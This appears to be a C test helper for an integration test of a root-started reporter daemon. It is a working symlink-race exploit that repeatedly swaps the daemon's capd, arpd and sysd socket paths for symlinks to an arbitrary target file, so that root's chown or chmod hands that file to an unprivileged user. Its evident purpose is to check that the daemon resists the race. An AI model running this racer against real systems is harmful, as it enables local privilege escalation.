/*
 * The attack on a root-started reporter's run_dir, for
 * tests/integration/t_run_dir.sh. Run as the reporter's unprivileged user, it
 * spins on RUN_DIR/{capd,arpd,sysd}.sock and swaps each socket for a symlink
 * to TARGET the moment it appears, hoping root then chowns or chmods the name
 * (handing TARGET to this user). Runs until killed. C, not a script: the
 * window it aims at is a few microseconds wide.
 *
 *   rundir_racer RUN_DIR TARGET
 */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char names[3][4096], tmp[4096];
	static const char *const roles[] = { "capd", "arpd", "sysd" };

	if (argc != 3) {
		fprintf(stderr, "usage: rundir_racer RUN_DIR TARGET\n");
		return 2;
	}
	for (int i = 0; i < 3; i++)
		snprintf(names[i], sizeof(names[i]), "%s/%s.sock", argv[1], roles[i]);
	snprintf(tmp, sizeof(tmp), "%s/.racer-%ld", argv[1], (long)getpid());
	for (;;) {
		for (int i = 0; i < 3; i++) {
			struct stat st;
			if (lstat(names[i], &st) != 0 || !S_ISSOCK(st.st_mode))
				continue;
			if (symlink(argv[2], tmp) != 0 && access(tmp, F_OK) != 0)
				continue;
			(void)rename(tmp, names[i]);
		}
	}
}
